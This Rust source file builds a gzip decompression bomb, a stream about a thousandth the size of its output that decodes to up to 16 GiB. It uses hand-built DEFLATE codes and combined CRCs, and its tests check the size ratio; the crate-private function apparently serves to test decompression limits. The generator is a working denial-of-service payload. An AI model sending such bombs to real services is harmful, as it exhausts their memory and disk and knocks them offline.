//! A small gzip file that decodes to a very large one (RFC 1951 and 1952), made without decoding or compressing anything.
//!
//! The text is a run of spaces and the digit 1. DEFLATE's longest repetition, 258 bytes, gets the one-bit code `0`, and so does its only
//! distance, so 258 bytes cost two bits, both zero: the run is a run of zero bytes.

use bytes::Bytes;

/// The largest decoded size: about 16 MiB of gzip, held in memory.
const DECODED_MAX: u64 = 16 << 30;

/// The longest repetition of DEFLATE, in bytes.
const REPEAT: u64 = 258;

/// The polynomial of CRC-32, bits reversed (RFC 1952, section 8).
const POLYNOMIAL: u32 = 0xedb8_8320;

/// Makes the gzip file. The decoded size is at least 1 and at most [`DECODED_MAX`].
pub(crate) fn bomb(decoded: u64) -> Bytes {
    let decoded = decoded.clamp(1, DECODED_MAX);
    let mut bits = Bits {
        bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255],
        used: 8,
    };
    block_header(&mut bits);
    let spaces = decoded - 1;
    if spaces > 0 {
        bits.code(SPACE);
        let repeats = (spaces - 1) / REPEAT;
        bits.zeros(2 * repeats);
        for _ in 0..(spaces - 1) % REPEAT {
            bits.code(SPACE);
        }
    }
    bits.code(ONE);
    bits.code(END);

    let mut file = bits.bytes;
    file.extend_from_slice(&crc_of_spaces_and_one(spaces).to_le_bytes());
    // ISIZE is the size modulo 2^32.
    file.extend_from_slice(&((decoded & 0xffff_ffff) as u32).to_le_bytes());
    file.into()
}

/// A Huffman code and its length; codes are written from their highest bit on.
type Code = (u32, u32);

// The lengths 1 (repetition of 258), 2 (space), 3 (digit 1), 3 (end of block), numbered as RFC 1951, section 3.2.2 says: by length,
// then by symbol: 285 is `0`, space (32) is `10`, the digit (49) is `110`, the end (256) is `111`.
const SPACE: Code = (0b10, 2);
const ONE: Code = (0b110, 3);
const END: Code = (0b111, 3);

/// Writes the header of the only block: 286 literal and length codes, one distance code, and their lengths.
fn block_header(bits: &mut Bits) {
    bits.number(1, 1); // the last block
    bits.number(2, 2); // with codes of its own
    bits.number(286 - 257, 5);
    bits.number(0, 5); // one distance code
    bits.number(18 - 4, 4); // 18 lengths of the code for code lengths follow
    // In the order 16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1; used are 18 (1 bit) and 1, 2, 3.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 3, 0, 2] {
        bits.number(length, 3);
    }
    const ZEROS: Code = (0b0, 1); // symbol 18, followed by 7 bits: how many zeros less 11
    const LENGTH_1: Code = (0b10, 2);
    const LENGTH_2: Code = (0b110, 3);
    const LENGTH_3: Code = (0b111, 3);
    let zeros = |bits: &mut Bits, count: u32| {
        bits.code(ZEROS);
        bits.number(count - 11, 7);
    };
    zeros(bits, 32); // 0 to 31
    bits.code(LENGTH_2); // 32, the space
    zeros(bits, 16); // 33 to 48
    bits.code(LENGTH_3); // 49, the digit
    zeros(bits, 138); // 50 to 187
    zeros(bits, 68); // 188 to 255
    bits.code(LENGTH_3); // 256, the end
    zeros(bits, 28); // 257 to 284
    bits.code(LENGTH_1); // 285, the repetition
    bits.code(LENGTH_1); // the distance
}

/// Bits packed from the lowest bit of each byte on.
struct Bits {
    bytes: Vec<u8>,
    /// How many bits of the last byte are taken.
    used: u32,
}

impl Bits {
    fn bit(&mut self, bit: u32) {
        if self.used == 8 {
            self.bytes.push(0);
            self.used = 0;
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= (bit as u8 & 1) << self.used;
        }
        self.used += 1;
    }

    /// Writes a number, lowest bit first.
    fn number(&mut self, number: u32, length: u32) {
        (0..length).for_each(|at| self.bit(number >> at));
    }

    /// Writes a Huffman code, highest bit first.
    fn code(&mut self, (code, length): Code) {
        (0..length).rev().for_each(|at| self.bit(code >> at));
    }

    fn zeros(&mut self, mut count: u64) {
        while count > 0 && self.used < 8 {
            self.bit(0);
            count -= 1;
        }
        let whole = usize::try_from(count / 8).unwrap_or(usize::MAX);
        self.bytes.resize(self.bytes.len() + whole, 0);
        (0..count % 8).for_each(|_| self.bit(0));
    }
}

/// Computes the CRC-32 of a run of spaces and the digit 1, in as many steps as the length of the run has bits.
fn crc_of_spaces_and_one(spaces: u64) -> u32 {
    // The run is built by doubling: whatever `run` spaces have for a CRC, twice as many have the two put together.
    let (mut crc, mut run_crc, mut run) = (0, crc_of_byte(b' '), 1);
    let mut left = spaces;
    while left > 0 {
        if left & 1 == 1 {
            crc = concatenated(crc, run_crc, run);
        }
        run_crc = concatenated(run_crc, run_crc, run);
        run *= 2;
        left >>= 1;
    }
    concatenated(crc, crc_of_byte(b'1'), 1)
}

/// Computes the CRC of two texts one after the other from their CRCs and the length of the second (zlib's `crc32_combine`).
fn concatenated(first: u32, second: u32, second_length: u64) -> u32 {
    product(x_to_the_power(8 * second_length), first) ^ second
}

fn crc_of_byte(byte: u8) -> u32 {
    let mut crc = !0 ^ u32::from(byte);
    for _ in 0..8 {
        crc = times_x(crc);
    }
    !crc
}

/// Multiplies by x modulo the polynomial; the highest bit is the coefficient of x^0.
fn times_x(value: u32) -> u32 {
    (value >> 1) ^ if value & 1 == 1 { POLYNOMIAL } else { 0 }
}

fn product(left: u32, mut right: u32) -> u32 {
    let mut sum = 0;
    for at in (0..32).rev() {
        if left >> at & 1 == 1 {
            sum ^= right;
        }
        right = times_x(right);
    }
    sum
}

fn x_to_the_power(mut exponent: u64) -> u32 {
    let (mut result, mut square) = (1 << 31, 1 << 30);
    while exponent > 0 {
        if exponent & 1 == 1 {
            result = product(square, result);
        }
        square = product(square, square);
        exponent >>= 1;
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use async_compression::tokio::bufread::GzipDecoder;
    use tokio::io::{AsyncReadExt, BufReader};

    /// The decoder checks the CRC and the size at the end.
    async fn check(size: u64) {
        let file = bomb(size);
        let mut decoded = Vec::new();
        GzipDecoder::new(BufReader::new(&file[..])).read_to_end(&mut decoded).await.unwrap();
        assert_eq!(decoded.len() as u64, size);
        assert_eq!(decoded.pop(), Some(b'1'));
        assert!(decoded.iter().all(|&byte| byte == b' '));
    }

    #[tokio::test]
    async fn a_bomb_of_any_size_decodes_to_that_size() {
        for size in [1, 2, 3, 259, 260, 261, 517, 518, 1_000, 65_536, 1_000_001, 8 << 20] {
            check(size).await;
        }
    }

    #[test]
    fn a_bomb_is_a_thousandth_of_what_it_decodes_to() {
        assert!(bomb(256 << 20).len() < 261_000);
        assert!(bomb(u64::MAX).len() < 17 << 20);
    }
}
